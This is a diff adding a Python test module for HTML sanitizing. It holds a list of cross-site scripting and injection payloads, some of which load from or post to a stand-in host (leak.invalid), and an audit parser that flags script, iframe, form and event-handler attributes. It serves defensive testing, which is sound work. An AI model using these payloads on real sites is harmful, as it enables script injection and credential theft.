@@ -1,0 +1,104 @@
+"""Texts that would like to run, load or leave the page; and a reader that notices if they did."""
+
+from html.parser import HTMLParser
+
+TEXTS = (
+    "<script>alert('HIT')</script>",
+    "<ScRiPt src=//leak.invalid/x.js></ScRiPt>",
+    '<img src="x" onerror="alert(\'HIT\')">',
+    "<img src='http://leak.invalid/x.png'>",
+    "<svg><script>alert('HIT')</script></svg>",
+    "<svg/onload=alert('HIT')>",
+    "<a href=\"javascript:alert('HIT')\">c</a>",
+    "<a href=\"data:text/html,<script>alert('HIT')</script>\">c</a>",
+    "[c](javascript:alert('HIT'))",
+    "[c](&#106;avascript:alert('HIT'))",
+    "[c](java\tscript:alert('HIT'))",
+    "![p](http://leak.invalid/p.png)",
+    '</textarea></title></style></script><img src="x" onerror="alert(\'HIT\')">',
+    "<!--<script>alert('HIT')",
+    "--><script>alert('HIT')</script><!--",
+    "<details open ontoggle=\"alert('HIT')\">x</details>",
+    '<form action="http://leak.invalid/x"><input name="password"><button>OK</button></form>',
+    "<iframe srcdoc=\"<script>alert('HIT')</script>\"></iframe>",
+    '<link rel="stylesheet" href="http://leak.invalid/x">',
+    '<meta http-equiv="refresh" content="0;url=http://leak.invalid/">',
+    '<base href="http://leak.invalid/">',
+    "<style>@import url(http://leak.invalid/x);</style>",
+    '<p style="background:url(http://leak.invalid/x)">p</p>',
+    "<object data=http://leak.invalid/x></object><embed src=http://leak.invalid/x>",
+    "<math><mtext></p><script>alert('HIT')</script></mtext></math>",
+    "\"}]}</script><script>alert('HIT')</script>",
+    "{0.__class__}{x!r}{{ 7*7 }}{% raw %}",
+    '" autofocus onfocus="alert(1)" x="',
+    "\u202etxet",
+    "price $50 or $70",
+)
+
+_NEVER = {
+    "script", "iframe", "object", "embed", "form", "input", "button", "link", "base", "svg", "math",
+    "video", "audio", "source", "textarea", "frame", "applet",
+}  # fmt: skip
+_LINKS = ("http://", "https://", "mailto:", "#")
+
+
+class Audit(HTMLParser):
+    """Reads a page: what is wrong with it, its text, its elements."""
+
+    def __init__(self, html):
+        super().__init__()
+        self.wrong, self.texts, self.elements, self.style = [], [], [], ""
+        self._open = []
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag, attrs):
+        self.elements.append((tag, dict(attrs)))
+        self._open.append(tag)
+        if tag in _NEVER:
+            self.wrong.append(tag)
+        for name, value in attrs:
+            self._attribute(tag, name, (value or "").strip().lower())
+
+    def _attribute(self, tag, name, value):
+        if name.startswith("on") or name in {"srcdoc", "srcset", "action", "formaction", "poster"}:
+            self.wrong.append((tag, name))
+        if name == "src" and not value.startswith("data:image/"):
+            self.wrong.append((tag, name, value))
+        if name == "href" and not value.startswith(_LINKS):
+            self.wrong.append((tag, name, value))
+        if name == "style" and value.replace(" ", "").rstrip(";") not in {
+            f"text-align:{side}" for side in ("left", "right", "center", "start", "end")
+        }:
+            self.wrong.append((tag, name, value))
+        if name == "http-equiv" and value != "content-security-policy":
+            self.wrong.append((tag, name, value))
+
+    def handle_endtag(self, tag):
+        if tag in self._open:
+            while self._open.pop() != tag:
+                pass
+
+    def handle_data(self, data):
+        if "style" in self._open:
+            self.style += data
+        elif "title" not in self._open:
+            self.texts.append(data)
+
+    @property
+    def text(self):
+        """The page's text."""
+        return "".join(self.texts)
+
+    def all(self, tag):
+        """The attributes of every element with this name."""
+        return [attrs for name, attrs in self.elements if name == tag]
+
+
+def audit(html):
+    """Reads a page and asserts that nothing in it runs, loads or leaves."""
+    found = Audit(html)
+    assert not found.wrong
+    assert "url(" not in found.style
+    assert "@import" not in found.style
+    return found
